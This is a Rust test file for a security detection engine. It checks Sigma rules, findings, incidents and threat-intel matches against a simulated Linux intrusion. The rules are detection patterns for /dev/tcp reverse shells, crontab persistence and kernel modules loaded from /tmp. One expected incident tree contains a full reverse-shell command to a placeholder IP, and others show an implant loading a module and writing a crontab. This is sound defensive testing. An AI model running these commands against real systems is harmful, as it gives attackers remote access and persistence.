//! The detection stage over Vigil's example intrusion: storylines, findings, their
//! deduplication, correlations and incidents, and every output valid OCSF.

use vigil_detect::{DetectConfig, Detector, StoryConfig, Storyline};
use vigil_event::example::attack_story;
use vigil_event::model::{FileActivity, ProcessActivity};
use vigil_event::OcsfEvent;

const START: i64 = 1_700_000_000_000;

const RULES: &str = r#"
title: Reverse shell through /dev/tcp
id: 6d3c7c0e-1111-4000-8000-000000000001
level: high
tags: [attack.execution, attack.t1059.004]
logsource: {product: linux, category: process_creation}
detection:
    selection:
        CommandLine|contains: '/dev/tcp/'
    condition: selection
---
title: Crontab written
id: 6d3c7c0e-1111-4000-8000-000000000002
level: medium
tags: [attack.persistence, attack.t1053.003]
logsource: {product: linux, category: file_event}
detection:
    selection:
        TargetFilename|startswith: '/var/spool/cron/'
    condition: selection
---
title: Kernel module loaded from /tmp
id: 6d3c7c0e-1111-4000-8000-000000000003
level: critical
tags: [attack.persistence, attack.privilege-escalation, attack.t1547.006]
logsource: {product: linux, category: driver_load}
detection:
    selection:
        ImageLoaded|startswith: '/tmp/'
    condition: selection
---
title: Process in /tmp writes files
id: 6d3c7c0e-1111-4000-8000-000000000004
level: low
logsource: {product: linux, category: file_event}
detection:
    selection:
        Image|startswith: '/tmp/'
    condition: selection
---
title: Shell launched
id: 6d3c7c0e-1111-4000-8000-000000000005
name: shell_launched
level: informational
logsource: {product: linux, category: process_creation}
detection:
    selection:
        Image|endswith: ['/bash', '/dash']
    condition: selection
---
title: Many shells in one story
id: 6d3c7c0e-1111-4000-8000-000000000006
level: medium
tags: [attack.execution]
correlation:
    type: event_count
    rules: [shell_launched]
    group-by: [StoryId]
    timespan: 10m
    condition: {gte: 3}
"#;

fn engine() -> std::sync::Arc<vigil_sigma::Engine> {
    let mut loader = vigil_sigma::Loader::new();
    loader.add("pack.yml", RULES);
    let built = loader.build();
    assert!(built.errors.is_empty(), "{:?}", built.errors);
    std::sync::Arc::new(built.engine)
}

/// Runs the story through the storyline and the detector; returns the events as the
/// agent writes them and what the detector added.
fn run(
    events: Vec<OcsfEvent>,
    engine: &std::sync::Arc<vigil_sigma::Engine>,
    config: DetectConfig,
) -> (Vec<OcsfEvent>, Vec<serde_json::Value>) {
    let mut story = Storyline::new(StoryConfig::default());
    let mut det = Detector::new(engine.clone(), config, "agent");
    let mut seen = Vec::new();
    let mut out = Vec::new();
    for mut ev in events {
        story.assign(&mut ev);
        det.process(&ev, ev.time() + 1, &mut out);
        seen.push(ev);
    }
    det.finish(START + 1_000_000, &mut out);
    (seen, out.iter().map(OcsfEvent::to_json).collect())
}

fn by_class(out: &[serde_json::Value], class: i64) -> Vec<&serde_json::Value> {
    out.iter().filter(|e| e["class_uid"] == class).collect()
}

fn rule_uid(f: &serde_json::Value) -> &str {
    f["finding_info"]["analytic"]["uid"].as_str().unwrap_or("")
}

#[test]
fn the_example_intrusion_is_one_story_and_one_incident() {
    let engine = engine();
    let (events, out) = run(attack_story(START), &engine, DetectConfig::default());
    // Every event but the sensor's own carries the story of the SSH logon's shell.
    let bash_uid = "b1d0c0de-4100-1700000001000";
    for e in events.iter().skip(1) {
        assert_eq!(
            e.to_json()["metadata"]["correlation_uid"],
            bash_uid,
            "{}",
            e.to_json()
        );
    }
    let findings = by_class(&out, 2004);
    let rules: Vec<&str> = findings.iter().map(|f| rule_uid(f)).collect();
    assert!(
        rules.contains(&"6d3c7c0e-1111-4000-8000-000000000001"),
        "{rules:?}"
    );
    assert!(rules.contains(&"6d3c7c0e-1111-4000-8000-000000000002"));
    assert!(rules.contains(&"6d3c7c0e-1111-4000-8000-000000000003"));
    let revshell = findings
        .iter()
        .find(|f| rule_uid(f) == "6d3c7c0e-1111-4000-8000-000000000001")
        .expect("reverse shell finding");
    assert_eq!(revshell["activity_id"], 1);
    assert_eq!(revshell["severity_id"], 4);
    assert_eq!(revshell["metadata"]["correlation_uid"], bash_uid);
    assert_eq!(
        revshell["finding_info"]["attacks"][0]["sub_technique"]["uid"],
        "T1059.004"
    );
    assert_eq!(
        revshell["finding_info"]["attacks"][0]["tactic"]["uid"],
        "TA0002"
    );
    assert_eq!(revshell["finding_info"]["src_url"], "pack.yml:2");
    // The process with its lineage, and the event itself as evidence.
    let process = &revshell["actor"]["process"];
    assert_eq!(process["pid"], 4127);
    assert_eq!(process["parent_process"]["file"]["path"], "/tmp/.x/kworker");
    assert_eq!(process["ancestry"][3]["path"], "/usr/sbin/sshd");
    assert_eq!(
        revshell["evidences"][0]["data"]["process"]["cmd_line"],
        process["cmd_line"]
    );
    // The module rule names two tactics: each is listed, the technique without one.
    let module = findings
        .iter()
        .find(|f| rule_uid(f) == "6d3c7c0e-1111-4000-8000-000000000003")
        .expect("module finding");
    assert_eq!(module["severity_id"], 5);
    // One incident: created with the first finding, updated as each new one joins.
    let incidents = by_class(&out, 2005);
    assert_eq!(incidents[0]["activity_id"], 1);
    assert!(incidents[1..].iter().all(|i| i["activity_id"] == 2));
    assert!(incidents
        .iter()
        .all(|i| i["metadata"]["correlation_uid"] == bash_uid));
    let last = incidents.last().expect("an incident");
    let n = findings.iter().filter(|f| f["activity_id"] == 1).count();
    assert_eq!(last["finding_info_list"].as_array().map(Vec::len), Some(n));
    assert_eq!(last["severity_id"], 5, "the worst of its findings");
    let techniques: Vec<&str> = last["attacks"]
        .as_array()
        .into_iter()
        .flatten()
        .filter_map(|a| a["technique"]["uid"].as_str())
        .collect();
    for t in ["T1059", "T1053", "T1547"] {
        assert!(techniques.contains(&t), "{t} in {techniques:?}");
    }
    assert_eq!(last["status"], "New");
}

#[test]
fn a_rule_firing_again_on_one_process_is_one_finding_with_a_count() {
    let engine = engine();
    let story = attack_story(START);
    // The implant writes the same crontab five more times, a second apart.
    let cron = story
        .iter()
        .find_map(|e| match e {
            OcsfEvent::File(f)
                if f.file.path.as_deref() == Some("/var/spool/cron/crontabs/root") =>
            {
                Some((**f).clone())
            }
            _ => None,
        })
        .expect("crontab write");
    let mut events = story.clone();
    let exit_at = events.len() - 1;
    let mut repeats: Vec<OcsfEvent> = (1..=5)
        .map(|i| {
            let mut e: FileActivity = cron.clone();
            e.time += i * 1_000;
            OcsfEvent::from(e)
        })
        .collect();
    // The sudo process that wrote it exits after its writes.
    let sudo = cron
        .actor
        .as_ref()
        .and_then(|a| a.process.as_deref())
        .cloned()
        .expect("actor");
    let mut exit = ProcessActivity::new(2, cron.time + 10_000, "example", sudo);
    exit.exit_code = Some(0);
    repeats.push(OcsfEvent::from(exit));
    let insert_at = events
        .iter()
        .position(|e| e.time() > cron.time)
        .unwrap_or(exit_at);
    events.splice(insert_at..insert_at, repeats);
    events.sort_by_key(OcsfEvent::time);
    let config = DetectConfig {
        update_interval_ms: 60_000,
        ..DetectConfig::default()
    };
    let (_, out) = run(events, &engine, config);
    let cron_findings: Vec<_> = by_class(&out, 2004)
        .into_iter()
        .filter(|f| rule_uid(f) == "6d3c7c0e-1111-4000-8000-000000000002")
        .collect();
    assert_eq!(cron_findings.len(), 2, "one Create, one Update at the exit");
    let (create, update) = (cron_findings[0], cron_findings[1]);
    assert_eq!(create["activity_id"], 1);
    assert_eq!(create["count"], 1);
    assert_eq!(update["activity_id"], 2);
    assert_eq!(update["type_uid"], 200_402);
    assert_eq!(update["count"], 6);
    assert_eq!(update["finding_info"]["uid"], create["finding_info"]["uid"]);
    assert_eq!(
        update["finding_info"]["last_seen_time"],
        cron.time + 5_000,
        "the last repeat"
    );
    assert_eq!(
        update["finding_info"]["first_seen_time"],
        create["finding_info"]["first_seen_time"]
    );
    assert!(
        update.get("evidences").is_none(),
        "an update repeats no evidence"
    );
}

#[test]
fn updates_come_at_most_every_interval_while_the_process_lives() {
    let engine = engine();
    let story = attack_story(START);
    let cron = story
        .iter()
        .find(|e| {
            e.class_uid() == 1001 && e.to_json()["file"]["path"] == "/var/spool/cron/crontabs/root"
        })
        .cloned()
        .expect("crontab write");
    let mut storyline = Storyline::new(StoryConfig::default());
    let config = DetectConfig {
        update_interval_ms: 10_000,
        ..DetectConfig::default()
    };
    let mut det = Detector::new(engine.clone(), config, "agent");
    let mut out = Vec::new();
    let mut now = START;
    for _ in 0..30 {
        let mut ev = cron.clone();
        storyline.assign(&mut ev);
        det.process(&ev, now, &mut out);
        det.tick(ev.time(), now, &mut out);
        now += 1_000;
    }
    let f: Vec<_> = out
        .iter()
        .map(OcsfEvent::to_json)
        .filter(|f| f["class_uid"] == 2004)
        .collect();
    // A Create at 0 s, Updates at 10 s and 20 s: 30 repeats in three findings.
    let counts: Vec<i64> = f.iter().filter_map(|f| f["count"].as_i64()).collect();
    assert_eq!(counts, [1, 11, 21]);
    let stats = det.stats();
    assert_eq!((stats.findings, stats.repeats, stats.updates), (1, 29, 2));
}

#[test]
fn a_correlation_over_one_story_fires_with_its_events() {
    let engine = engine();
    let (_, out) = run(attack_story(START), &engine, DetectConfig::default());
    let corr: Vec<_> = by_class(&out, 2004)
        .into_iter()
        .filter(|f| rule_uid(f) == "6d3c7c0e-1111-4000-8000-000000000006")
        .collect();
    assert_eq!(corr.len(), 1, "bash, dash and the reverse shell's bash");
    let f = corr[0];
    assert_eq!(f["finding_info"]["analytic"]["category"], "correlation");
    assert_eq!(f["evidences"][0]["name"], "group_by");
    assert_eq!(
        f["evidences"][0]["data"]["StoryId"],
        "b1d0c0de-4100-1700000001000"
    );
    assert_eq!(f["evidences"].as_array().map(Vec::len), Some(4));
    assert_eq!(
        f["metadata"]["correlation_uid"],
        "b1d0c0de-4100-1700000001000"
    );
    // The base rule is silent: it reports nothing of its own.
    assert!(!by_class(&out, 2004)
        .iter()
        .any(|f| rule_uid(f) == "6d3c7c0e-1111-4000-8000-000000000005"));
}

#[test]
fn every_finding_and_incident_is_valid_ocsf() {
    let Some(dir) = vigil_testdata::corpus("ocsf-schema") else {
        return;
    };
    let schema = vigil_ocsf_schema::Schema::load(&dir).expect("schema");
    let engine = engine();
    let config = DetectConfig {
        update_interval_ms: 0,
        ..DetectConfig::default()
    };
    let (events, out) = run(attack_story(START), &engine, config);
    let mut classes = std::collections::BTreeSet::new();
    for json in events.iter().map(OcsfEvent::to_json).chain(out) {
        classes.insert((json["class_uid"].as_i64(), json["activity_id"].as_i64()));
        let v = schema.validate(&json);
        assert!(v.is_empty(), "{v:?}\n{json:#}");
    }
    assert!(classes.contains(&(Some(2004), Some(1))));
    assert!(classes.contains(&(Some(2005), Some(1))));
    assert!(classes.contains(&(Some(2005), Some(2))));
}

#[test]
fn more_findings_of_the_same_kind_update_the_incident_once_per_interval() {
    let engine = engine();
    let story = attack_story(START);
    let cron = story
        .iter()
        .find_map(|e| match e {
            OcsfEvent::File(f)
                if f.file.path.as_deref() == Some("/var/spool/cron/crontabs/root") =>
            {
                Some((**f).clone())
            }
            _ => None,
        })
        .expect("crontab write");
    let mut storyline = Storyline::new(StoryConfig::default());
    let mut det = Detector::new(engine.clone(), DetectConfig::default(), "agent");
    let mut out = Vec::new();
    // Ten processes of one story each write a crontab, 100 ms apart.
    for i in 0..10 {
        let mut e = cron.clone();
        let actor = e.actor.as_mut().expect("actor");
        let mut p = actor.process.as_deref().cloned().expect("process");
        p.pid = Some(9000 + i);
        p.uid = Some(format!("b1d0c0de-{}-1", 9000 + i));
        actor.process = Some(vigil_event::model::Shared::new(p));
        e.time += i64::from(i) * 100;
        let mut ev = OcsfEvent::from(e);
        storyline.assign(&mut ev);
        det.process(&ev, START + i64::from(i) * 100, &mut out);
        det.tick(ev.time(), START + i64::from(i) * 100, &mut out);
    }
    let incidents = |out: &[OcsfEvent]| -> Vec<serde_json::Value> {
        out.iter()
            .map(OcsfEvent::to_json)
            .filter(|e| e["class_uid"] == 2005)
            .collect()
    };
    assert_eq!(
        by_class(
            &out.iter().map(OcsfEvent::to_json).collect::<Vec<_>>(),
            2004
        )
        .len(),
        10
    );
    assert_eq!(incidents(&out).len(), 1, "created once; the rest waits");
    det.tick(START + 20_000, START + 20_000, &mut out);
    let all = incidents(&out);
    assert_eq!(all.len(), 2, "one update after the interval");
    assert_eq!(all[1]["count"], 10);
    // The list names each rule once, seen until its latest finding.
    let list = all[1]["finding_info_list"].as_array().expect("a list");
    assert_eq!(list.len(), 1);
    assert_eq!(list[0]["last_seen_time"], cron.time + 900);
    assert_eq!(list[0]["first_seen_time"], cron.time);
    det.finish(START + 30_000, &mut out);
    assert_eq!(incidents(&out).len(), 2, "nothing new to report at the end");
}

#[test]
fn incidents_read_back_show_the_flagged_branch_of_the_story() {
    let engine = engine();
    let (events, out) = run(attack_story(START), &engine, DetectConfig::default());
    let mut all = vigil_detect::Incidents::new();
    for e in events
        .iter()
        .map(OcsfEvent::to_json)
        .chain(out.iter().cloned())
    {
        all.add(&e);
    }
    let incidents = all.incidents();
    assert_eq!(incidents.len(), 1);
    let inc = incidents[0];
    assert_eq!(inc.story(), "b1d0c0de-4100-1700000001000");
    let text = inc.to_text();
    let lines: Vec<&str> = text.lines().collect();
    assert!(
        lines[0].starts_with("incident b1d0c0de-4100-1700000001000 on web-01: critical, "),
        "{text}"
    );
    assert!(lines[1].contains("T1059.004 (Execution)"), "{text}");
    // The branch: bash -> sh -> implant -> reverse shell, flagged where rules fired,
    // with curl and chmod (nothing found) left out.
    let tree: Vec<&str> = lines[2..]
        .iter()
        .copied()
        .filter(|l| !l.contains("->"))
        .collect();
    assert_eq!(
        tree,
        [
            "    -bash [4100]",
            "      sh [4124]",
            "        /tmp/.x/kworker [4126]",
            "  !       bash -c bash -i >& /dev/tcp/198.51.100.23/4444 0>&1 [4127]",
            "  !         sudo -n crontab /tmp/.x/cron [4140]",
            "  !         insmod /tmp/.x/rk.ko [4150]",
        ],
        "{text}"
    );
    assert!(
        text.contains("-> Reverse shell through /dev/tcp (high)"),
        "{text}"
    );
    // The same from the findings alone: their lineage gives the branch.
    let mut only = vigil_detect::Incidents::new();
    for f in out
        .iter()
        .filter(|e| e["class_uid"] == 2004 || e["class_uid"] == 2005)
    {
        only.add(f);
    }
    assert_eq!(only.incidents()[0].to_text(), text);
    let json = inc.to_json();
    assert_eq!(json["tree"][0]["pid"], 4100);
    assert_eq!(
        json["tree"][0]["children"][0]["children"][0]["children"][0]["flagged"],
        true
    );
    assert_eq!(json["severity"], "critical");
}

/// The example story matched against indicators: the domain curl asks for, and the
/// hash of the shell it starts.
fn run_with_intel(intel: vigil_intel::IntelSet) -> Vec<serde_json::Value> {
    let engine = engine();
    let mut story = Storyline::new(StoryConfig::default());
    let mut det = Detector::new(engine.clone(), DetectConfig::default(), "agent").with_intel(
        std::sync::Arc::new(intel),
        vigil_event::model::severity::HIGH,
    );
    let mut out = Vec::new();
    for mut ev in attack_story(START) {
        story.assign(&mut ev);
        det.process(&ev, ev.time() + 1, &mut out);
        // The same exec seen twice is one finding, counted.
        if matches!(&ev, OcsfEvent::Process(p) if p.process.pid == Some(4124)) {
            det.process(&ev, ev.time() + 2, &mut out);
        }
    }
    det.finish(START + 1_000_000, &mut out);
    out.iter().map(OcsfEvent::to_json).collect()
}

fn example_intel() -> vigil_intel::IntelSet {
    let sha = format!("{:064x}", 4124u128 * 0x9e37_79b9_7f4a_7c15);
    let mut intel = vigil_intel::IntelSet::new();
    let r = intel.add(
        "feed.txt",
        &format!("# test feed\nexample-cdn.net\n{sha}\n192.0.2.200\n"),
        vigil_intel::Format::List,
    );
    assert!(r.problems.is_empty(), "{:?}", r.problems);
    intel
}

#[test]
fn indicators_named_by_events_are_findings_with_their_source_in_the_incident() {
    let out = run_with_intel(example_intel());
    let intel: Vec<&serde_json::Value> = by_class(&out, 2004)
        .into_iter()
        .filter(|f| f["finding_info"]["types"][0] == "Indicator")
        .collect();
    let titles: Vec<&str> = intel
        .iter()
        .filter(|f| f["activity_id"] == 1)
        .filter_map(|f| f["finding_info"]["title"].as_str())
        .collect();
    let sha = format!("{:064x}", 4124u128 * 0x9e37_79b9_7f4a_7c15);
    assert_eq!(
        titles,
        [
            format!("Known-bad SHA-256 {sha} (feed.txt)"),
            "Known-bad domain example-cdn.net (feed.txt)".to_string(),
        ]
    );
    let dns = intel
        .iter()
        .find(|f| f["osint"][0]["type_id"] == 2)
        .expect("the domain's finding");
    assert_eq!(dns["osint"][0]["value"], "example-cdn.net");
    assert_eq!(
        dns["osint"][0]["comment"],
        "matched updates.example-cdn.net"
    );
    assert_eq!(dns["osint"][0]["src_url"], "feed.txt");
    assert_eq!(dns["severity_id"], 4);
    assert!(dns["metadata"]["profiles"]
        .as_array()
        .is_some_and(|p| p.iter().any(|x| x == "osint")));
    assert_eq!(dns["finding_info"]["analytic"]["type_id"], 9);
    assert_eq!(dns["actor"]["process"]["name"], "curl");
    // The exec seen twice: one finding, its count 2 in the Update at the end.
    let hash: Vec<_> = intel
        .iter()
        .filter(|f| f["osint"][0]["type_id"] == 4)
        .collect();
    assert_eq!(hash.len(), 2, "{hash:#?}");
    assert_eq!(hash[1]["activity_id"], 2);
    assert_eq!(hash[1]["count"], 2);
    // Both are in the story's incident.
    let incident = by_class(&out, 2005)
        .into_iter()
        .last()
        .expect("the incident");
    let listed: Vec<&str> = incident["finding_info_list"]
        .as_array()
        .expect("list")
        .iter()
        .filter_map(|f| f["title"].as_str())
        .collect();
    assert!(
        listed.contains(&"Known-bad domain example-cdn.net (feed.txt)"),
        "{listed:?}"
    );
    assert_eq!(
        dns["metadata"]["correlation_uid"],
        incident["metadata"]["correlation_uid"]
    );
}

#[test]
fn indicator_findings_are_valid_ocsf() {
    let Some(dir) = vigil_testdata::corpus("ocsf-schema") else {
        return;
    };
    let schema = vigil_ocsf_schema::Schema::load(&dir).expect("schema");
    let out = run_with_intel(example_intel());
    let mut checked = 0;
    for json in out.iter().filter(|e| !e["osint"].is_null()) {
        let v = schema.validate(json);
        assert!(v.is_empty(), "{v:?}\n{json:#}");
        checked += 1;
    }
    assert!(checked >= 2);
}

/// A finding made outside the engine (a file verdict) about an exec of the example
/// story, reported twice for one process and once for another.
#[test]
fn findings_made_elsewhere_are_completed_counted_per_process_and_join_the_incident() {
    use vigil_event::model::{DetectionFinding, Evidences, File, FindingInfo};
    let engine = engine();
    let mut story = Storyline::new(StoryConfig::default());
    let mut det = Detector::new(engine.clone(), DetectConfig::default(), "agent");
    let mut out = Vec::new();
    let verdict = || {
        let info = FindingInfo {
            title: Some("YARA rule Test matched payload".into()),
            types: vec!["YARA".into()],
            ..FindingInfo::default()
        };
        let mut f = DetectionFinding::new(1, 0, "yara", info);
        f.severity_id = vigil_event::model::severity::HIGH;
        f.evidences = vec![Evidences {
            file: Some(File {
                name: "payload".into(),
                path: Some("/tmp/payload".into()),
                ..File::default()
            }),
            ..Evidences::default()
        }];
        f
    };
    let mut execs = Vec::new();
    for mut ev in attack_story(START) {
        story.assign(&mut ev);
        det.process(&ev, ev.time() + 1, &mut out);
        if matches!(&ev, OcsfEvent::Process(p) if p.activity_id == 1) {
            execs.push(ev);
        }
    }
    let (first, second) = (&execs[1], &execs[2]);
    det.report_finding("yara:test:1", verdict(), first, START + 10, &mut out);
    det.report_finding("yara:test:1", verdict(), first, START + 11, &mut out);
    det.report_finding("yara:test:1", verdict(), second, START + 12, &mut out);
    det.finish(START + 1_000_000, &mut out);
    let out: Vec<serde_json::Value> = out.iter().map(OcsfEvent::to_json).collect();
    let yara: Vec<&serde_json::Value> = by_class(&out, 2004)
        .into_iter()
        .filter(|f| f["finding_info"]["types"][0] == "YARA")
        .collect();
    let new: Vec<_> = yara.iter().filter(|f| f["activity_id"] == 1).collect();
    assert_eq!(new.len(), 2, "one per process: {yara:#?}");
    let f = new[0];
    // Completed as a rule's finding: its time and process from the event, its own
    // evidence first, then the triggering event.
    assert_eq!(f["time"], first.time());
    assert_eq!(f["evidences"][0]["file"]["path"], "/tmp/payload");
    assert_eq!(f["evidences"][1]["name"], "triggering event");
    let OcsfEvent::Process(p) = first else {
        unreachable!()
    };
    assert_eq!(f["actor"]["process"]["uid"], p.process.uid.clone().unwrap());
    assert!(f["finding_info"]["uid"]
        .as_str()
        .is_some_and(|u| u.starts_with("yara:test:1@")));
    // The repeat on the first process is its count.
    let update = yara
        .iter()
        .find(|u| u["activity_id"] == 2 && u["finding_info"]["uid"] == f["finding_info"]["uid"])
        .expect("the repeat's Update");
    assert_eq!(update["count"], 2);
    let incident = by_class(&out, 2005).into_iter().last().expect("incident");
    assert!(incident["finding_info_list"]
        .as_array()
        .expect("list")
        .iter()
        .any(|i| i["title"] == "YARA rule Test matched payload"));
    assert_eq!(
        f["metadata"]["correlation_uid"],
        incident["metadata"]["correlation_uid"]
    );
}

/// New rules while the stream runs: a rule both rule sets have goes on counting its open
/// finding (no second Create), a rule only the new set has fires, one only the old set
/// had fires no more, and the story keeps its one incident.
#[test]
fn replacing_the_rules_keeps_open_findings_and_incidents() {
    let old = engine();
    let mut loader = vigil_sigma::Loader::new();
    let reverse_shell = RULES.split("\n---\n").next().expect("first rule");
    loader.add("shell.yml", reverse_shell);
    loader.add(
        "new.yml",
        "title: Crontab touched\nid: 6d3c7c0e-1111-4000-8000-000000000077\nlevel: high\n\
         logsource: {product: linux, category: file_event}\n\
         detection:\n    selection:\n        TargetFilename|contains: '/cron/'\n    condition: selection\n",
    );
    let built = loader.build();
    assert!(built.errors.is_empty(), "{:?}", built.errors);
    let new = std::sync::Arc::new(built.engine);
    let mut story = Storyline::new(StoryConfig::default());
    let mut det = Detector::new(old, DetectConfig::default(), "agent");
    let mut out = Vec::new();
    let mut new = Some(new);
    for mut ev in attack_story(START) {
        story.assign(&mut ev);
        let before = out.len();
        det.process(&ev, ev.time() + 1, &mut out);
        let fired = out[before..]
            .iter()
            .any(|f| matches!(f, OcsfEvent::Finding(_)));
        if let Some(engine) = new.take_if(|_| fired) {
            // The rules change right after the first finding; the same event again is
            // a repeat on its process.
            det.replace_content(engine, None, ev.time() + 2, &mut out);
            det.process(&ev, ev.time() + 3, &mut out);
        }
    }
    det.finish(START + 1_000_000, &mut out);
    let out: Vec<serde_json::Value> = out.iter().map(OcsfEvent::to_json).collect();
    let creates = |id: &str| {
        by_class(&out, 2004)
            .into_iter()
            .filter(|f| f["activity_id"] == 1 && f["finding_info"]["analytic"]["uid"] == id)
            .count()
    };
    let shell = "6d3c7c0e-1111-4000-8000-000000000001";
    assert_eq!(creates(shell), 1, "a repeat, not a new finding");
    let last_shell = by_class(&out, 2004)
        .into_iter()
        .rfind(|f| f["finding_info"]["analytic"]["uid"] == shell)
        .expect("shell finding");
    assert_eq!(
        last_shell["count"], 2,
        "counted across the change: {last_shell:#}"
    );
    assert_eq!(creates("6d3c7c0e-1111-4000-8000-000000000077"), 1);
    // The old set's crontab rule runs no more.
    assert_eq!(creates("6d3c7c0e-1111-4000-8000-000000000002"), 0);
    let incidents: std::collections::HashSet<&serde_json::Value> = by_class(&out, 2005)
        .into_iter()
        .map(|i| &i["finding_info"]["uid"])
        .collect();
    assert_eq!(incidents.len(), 1, "one story, one incident");
}
